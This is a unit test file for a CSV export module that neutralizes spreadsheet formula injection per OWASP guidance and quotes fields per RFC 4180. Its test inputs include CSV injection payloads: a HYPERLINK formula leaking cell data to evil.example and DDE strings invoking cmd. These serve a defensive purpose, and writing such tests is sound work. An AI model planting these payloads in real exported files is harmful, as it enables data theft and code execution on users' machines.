import { describe, expect, it } from 'vitest';
import { csvField, isNumericType, neutralizeFormula } from '../../src/core/csvCells.ts';

// OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with
// = + - @ tab or carriage return are formulas to a spreadsheet; prefix them with a single quote.
describe('CSV cells a spreadsheet will not run', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', `'=HYPERLINK("https://evil.example/?"&A1,"Click")`],
    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
    ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
    ['@SUM(1+9)*cmd|\' /C calc\'!A0', `'@SUM(1+9)*cmd|' /C calc'!A0`],
    ['\t=1+2', `'\t=1+2`],
    ['\r=1+2', `'\r=1+2`],
    ['-', `'-`],
    ['-1+1', `'-1+1`],
  ])('%j → %j', (input, expected) => expect(neutralizeFormula(input)).toBe(expected));

  it.each(['-12.5', '+3', '-0', '1e-9', '-1.5E+21', '.5', '-.5', '42', 'plain text', ' =leading space', "'already quoted", ''])('leaves %j as it is', (v) => expect(neutralizeFormula(v)).toBe(v));

  it('quotes fields per RFC 4180 after neutralizing, and keeps numbers of numeric columns whatever they look like', () => {
    expect(csvField('=1+2,"x"', false)).toBe(`"'=1+2,""x"""`);
    expect(csvField('-inf', true)).toBe('-inf');
    expect(csvField('-inf', false)).toBe("'-inf");
    expect(csvField(null, false)).toBe('');
    expect(csvField('=1+2', false, { raw: true })).toBe('=1+2');
  });

  it('knows DuckDB numeric types', () => {
    expect(['INTEGER', 'BIGINT', 'DOUBLE', 'DECIMAL(18,3)', 'HUGEINT', 'FLOAT'].every(isNumericType)).toBe(true);
    expect(['VARCHAR', 'DATE', 'TIMESTAMP', 'BOOLEAN', 'INTEGER[]', 'STRUCT(a INTEGER)'].some(isNumericType)).toBe(false);
  });
});
